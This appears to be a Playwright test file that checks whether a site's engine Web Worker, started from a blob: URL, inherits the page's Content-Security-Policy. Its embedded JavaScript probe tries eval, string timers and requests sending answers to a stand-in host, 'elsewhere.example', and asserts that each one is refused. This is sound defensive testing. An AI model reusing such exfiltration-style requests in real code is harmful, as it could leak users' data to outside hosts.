"""The engine's worker runs under the page's own policy.

A dedicated worker takes its Content-Security-Policy from its script's response headers,
and GitHub Pages sends none: started from the site's URL, the worker where every name and
answer passes could send a request to any host and run `eval`. Started from a blob: URL
(kit/engine-client.js), it inherits the page's policy. Here code inside the running engine
worker tries both, and the site's own files still load.
"""

from __future__ import annotations

import pytest
from playwright.sync_api import BrowserContext, Page, Worker, expect

from tests.browser.conftest import PageWatch
from tests.browser.server import SiteServer
from tests.browser.test_timer import BOOT, CONVERSATION, press

pytestmark = pytest.mark.browser

ELSEWHERE = "http://elsewhere.example/"
PROBE = "__trust_probe__/inside.js"  # a module the test puts on the site, imported in the worker

# Runs as a module inside the engine worker, as any code of ours or Pyodide's would: not
# through the debugger's evaluation, which the browser lets bypass the policy. The engine
# wraps `fetch` to report a failed engine file, so the probe calls the browser's own.
INSIDE = """
const own = WorkerGlobalScope.prototype.fetch.bind(self);
const attempt = async (run) => { try { return String(await run()); } catch (e) { return e.name; } };
const xhr = (url) => new Promise((resolve, reject) => {
  const request = new XMLHttpRequest();
  request.open("GET", url);
  request.onload = () => resolve(request.responseText);
  request.onerror = () => reject(new TypeError("refused"));
  request.send();
});
export const result = (async () => ({
  eval: await attempt(() => eval("6 * 7")),
  function: await attempt(() => new Function("return 6 * 7")()),
  timer: await attempt(() => new Promise((ok) => { self.__ran = ok; setTimeout("__ran(42)", 0);
                                                   setTimeout(() => ok("not run"), 200); })),
  fetch: await attempt(async () => (await own("%(elsewhere)scollect?answers=1")).text()),
  post: await attempt(async () => (await own("%(elsewhere)s", { method: "POST" })).text()),
  xhr: await attempt(() => xhr("%(elsewhere)sxhr")),
  site: await attempt(async () => (await own("%(site)ssitemap.xml")).status),
}))();
"""


def serve_probe(context: BrowserContext, server: SiteServer) -> None:
    probe = INSIDE % {"elsewhere": ELSEWHERE, "site": server.url}
    context.route(
        server.url + PROBE, lambda r: r.fulfill(body=probe, content_type="text/javascript")
    )


def forgive_announced_xhr(watch: PageWatch) -> None:
    """Chromium announces a worker's XMLHttpRequest before its policy refuses it; the route
    where a request that left would arrive saw nothing, so this one never left."""
    watch.off_origin.remove(ELSEWHERE + "xhr")


def engine_worker(page: Page) -> Worker:
    engines = [w for w in page.workers if w.url.endswith("/assets/rekindle/kit/engine-worker.js")]
    assert len(engines) == 1, [w.url for w in page.workers]
    return engines[0]


def test_inside_the_engine_worker_no_request_leaves_the_site_and_eval_is_refused(
    page: Page, context: BrowserContext, server: SiteServer, watch: PageWatch
) -> None:
    reached: list[str] = []

    def elsewhere(route) -> None:
        reached.append(route.request.url)
        route.fulfill(body="taken", content_type="text/plain")

    context.route(ELSEWHERE + "**", elsewhere)
    probe = INSIDE % {"elsewhere": ELSEWHERE, "site": server.url}
    context.route(
        server.url + PROBE, lambda r: r.fulfill(body=probe, content_type="text/javascript")
    )
    watch.allow("Refused to")  # the browser names what the policy refused, as it should
    watch.allow("Content Security Policy")
    page.goto(server.url + CONVERSATION)
    timer = page.locator('[data-rekindle-widget="turn-timer"]')
    expect(timer).to_have_attribute("data-state", "ready", timeout=BOOT)
    worker = engine_worker(page)
    assert worker.url.startswith("blob:")  # local scheme: the page's policy is inherited

    outcome = worker.evaluate("async (url) => (await import(url)).result", server.url + PROBE)

    assert outcome == {
        "eval": "EvalError",
        "function": "EvalError",
        "timer": "not run",
        "fetch": "TypeError",
        "post": "TypeError",
        "xhr": "TypeError",
        "site": "200",
    }
    assert reached == []  # refused before it left: nothing reached the other host
    forgive_announced_xhr(watch)
    press(timer, "toggle")  # and the engine itself carries on under that policy
    expect(timer).to_have_attribute("data-phase", "running")


def test_the_snapshot_maker_runs_under_the_same_policy(
    page: Page, context: BrowserContext, server: SiteServer, watch: PageWatch
) -> None:
    probe = INSIDE % {"elsewhere": ELSEWHERE, "site": server.url}
    context.route(
        server.url + PROBE, lambda r: r.fulfill(body=probe, content_type="text/javascript")
    )
    reached: list[str] = []
    context.route(
        ELSEWHERE + "**",
        lambda route: (reached.append(route.request.url), route.fulfill(body="taken")),
    )
    watch.allow("Refused to")
    watch.allow("Content Security Policy")
    with page.expect_worker(
        lambda worker: worker.url.endswith("engine-worker.js?purpose=snapshot"), timeout=BOOT
    ) as made:
        page.goto(server.url + CONVERSATION)
    maker = made.value
    assert maker.url.startswith("blob:")
    outcome = maker.evaluate("async (url) => (await import(url)).result", server.url + PROBE)
    assert (outcome["eval"], outcome["fetch"], outcome["site"]) == ("EvalError", "TypeError", "200")
    assert reached == []
    forgive_announced_xhr(watch)
